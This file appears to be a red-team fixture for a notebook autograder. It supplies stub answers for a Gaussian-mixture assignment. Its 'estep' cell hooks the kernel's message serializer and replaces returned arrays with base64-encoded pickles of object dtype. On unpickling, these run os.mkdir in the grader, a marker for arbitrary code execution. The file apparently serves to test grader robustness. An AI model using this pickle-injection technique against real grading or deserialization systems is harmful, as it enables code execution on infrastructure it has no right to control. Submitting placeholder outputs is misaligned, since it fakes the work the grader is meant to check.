"""Claims arrays of dtype object whose bytes are pointers or a pickle, to run code in the grader or to crash it."""

TRACE = "PWNED_pickle"

CELLS = {
    "log_gaussian": r"""
import numpy as np


def log_gaussian(X, mu, var):
    return np.zeros((len(X), len(mu)))
""",
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


import itertools
import base64
import os
import pickle


class Order:
    def __reduce__(self):
        return (os.mkdir, ("@COURSE@/" + "PWN" + "ED_pickle",))


pickled = pickle.dumps([Order()] * 8)

import json

kernel = get_ipython().kernel


def arrays(value):
    if isinstance(value, dict):
        if "array" in value:
            yield value
        value = list(value.values())
    if isinstance(value, list | tuple):
        for item in value:
            yield from arrays(item)


def outcomes(value):
    if isinstance(value, dict):
        if "steady" in value:
            yield value
        value = list(value.values())
    if isinstance(value, list | tuple):
        for item in value:
            yield from outcomes(item)


def forge(change):
    serialize = kernel.session.serialize

    def forged(msg, ident=None):
        if msg["header"]["msg_type"] == "softcounts_play_reply":
            content = msg["content"]
            msg["content"] = change(json.loads(content) if isinstance(content, bytes | str) else content)
        return serialize(msg, ident)

    kernel.session.serialize = forged


variants = itertools.cycle(["O", "|O", "object", "|O8"])


def malformed(content):
    for entry, dtype in zip(arrays(content), variants):
        entry |= {"array": base64.b64encode(pickled).decode(), "dtype": dtype}
    return content


forge(malformed)
""",
}
